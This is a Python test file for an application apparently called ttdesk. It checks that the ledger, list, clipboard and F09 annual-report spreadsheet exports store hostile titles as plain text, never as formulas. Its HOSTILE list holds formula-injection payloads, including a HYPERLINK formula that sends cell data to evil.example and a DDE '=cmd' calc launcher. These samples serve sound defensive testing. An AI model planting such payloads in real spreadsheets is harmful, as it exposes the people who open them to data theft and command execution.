"""Spreadsheets from data never hold a formula (issue 15 §4): a title such as
`=HYPERLINK(...)` or `=cmd|' /C calc'!A0` reaches the ledger export, the list export and
the F09 workbook as the same text, in a text cell; nothing in the xlsx is a formula."""

from __future__ import annotations

import zipfile
from pathlib import Path

import openpyxl
from builders import make_achievement, make_company, make_deal
from sqlalchemy import update

from ttdesk.core.base.context import AppContext
from ttdesk.core.base.spreadsheet import data_cell, is_formula_like, safe_text
from ttdesk.core.ledger.export import export_ledger
from ttdesk.db import models as M


def _institution(ctx: AppContext) -> None:
    from ttdesk.core.office.institution import InstitutionProfile, save_profile

    save_profile(ctx, InstitutionProfile(name="=HYPERLINK(\"x\")大学", tto_name="技术转移中心"))


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "=cmd|' /C calc'!A0",
           "+1+2", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]


def _formulas(path: Path) -> list[str]:
    """Every <f> element of every sheet (openpyxl writes a formula as <f>)."""
    with zipfile.ZipFile(path) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/")
                and b"<f>" in z.read(n)]


def _all_values(path: Path) -> list[object]:
    wb = openpyxl.load_workbook(path)
    return [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def test_the_one_function() -> None:
    assert all(is_formula_like(t) for t in HOSTILE)
    assert not is_formula_like("电池 = 储能") and not is_formula_like(5)
    assert safe_text("=1+1") == "'=1+1" and safe_text("plain") == "plain"
    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet("x")
    cell = data_cell(ws, "=1+1")
    assert cell.data_type == "s" and cell.value == "=1+1" and cell.quotePrefix
    assert data_cell(ws, 3) == 3 and data_cell(ws, "-") != "-"


def test_ledger_export_writes_text(ctx: AppContext, tmp_path: Path) -> None:
    cases = [make_achievement(ctx, title=t) for t in HOSTILE]
    make_deal(ctx, cases[:1], title="=cmd|' /C calc'!A0",
              counterparty=make_company(ctx, name="@evil"))
    out = tmp_path / "台账.xlsx"
    export_ledger(ctx, out)
    assert _formulas(out) == []
    values = _all_values(out)
    for t in HOSTILE:  # the same text, not an apostrophe-prefixed copy (XML reads CR as LF)
        assert t in values or t.replace("\r", "\n") in values
    assert "@evil" in values


def test_list_export_and_clipboard_write_text(tmp_path: Path) -> None:
    from ttdesk.ui.lists import export
    from ttdesk.ui.lists.model import Column

    cols = [Column("title", lambda r: r["title"], title="名称"),
            Column("n", lambda r: r["n"], title="数")]
    rows = [{"title": t, "n": i} for i, t in enumerate(HOSTILE)]
    out = export.write_xlsx(tmp_path / "list.xlsx", "cases", cols,
                            lambda ids: [rows[i] for i in ids], list(range(len(rows))), "zh")
    assert _formulas(out) == []
    values = _all_values(out)
    assert HOSTILE[0] in values and HOSTILE[1] in values and 3 in values
    text = export.tsv(cols, rows, "zh")
    assert "\n=" not in text and "\t=" not in text and "'=HYPERLINK" in text


def test_annual_workbook_writes_text(ctx: AppContext, tmp_path: Path) -> None:
    from ttdesk.core.records import filing_archive
    from ttdesk.filings.annual_xlsx import write_annual_xlsx
    from ttdesk.filings.service import generate

    _institution(ctx)
    gen = generate(ctx, "F09", "2025", "zh")
    snapshot = filing_archive.snapshot(ctx, gen.record.id)
    snapshot["projects"] = [{"deal_no": "HT-2025-0001", "title": HOSTILE[1],
                             "mode": "transfer", "counterparty": "=1+1", "price": "100.00",
                             "signing_date": "2025-01-02", "registration_no": "+86"}]
    out = write_annual_xlsx(snapshot, tmp_path / "F09.xlsx", "zh")
    assert _formulas(out) == []
    values = _all_values(out)
    assert HOSTILE[1] in values and "=1+1" in values and "+86" in values


def test_f09_workbook_from_the_cli(ctx: AppContext, tmp_path: Path) -> None:
    from ttdesk.cli.main import main

    _institution(ctx)
    case = make_achievement(ctx, title=HOSTILE[0])
    deal = make_deal(ctx, [case], title=HOSTILE[1])
    with ctx.write() as s:
        s.execute(update(M.Deal).where(M.Deal.id == deal.id).values(title=HOSTILE[1]))
    db = str(ctx.db.sqlite_path)
    out = tmp_path / "F09.xlsx"
    code = main(["--db", db, "annual-report", "2025", "-o", str(tmp_path / "F09.pdf"),
                 "--xlsx", str(out)])
    assert code == 0
    assert _formulas(out) == []
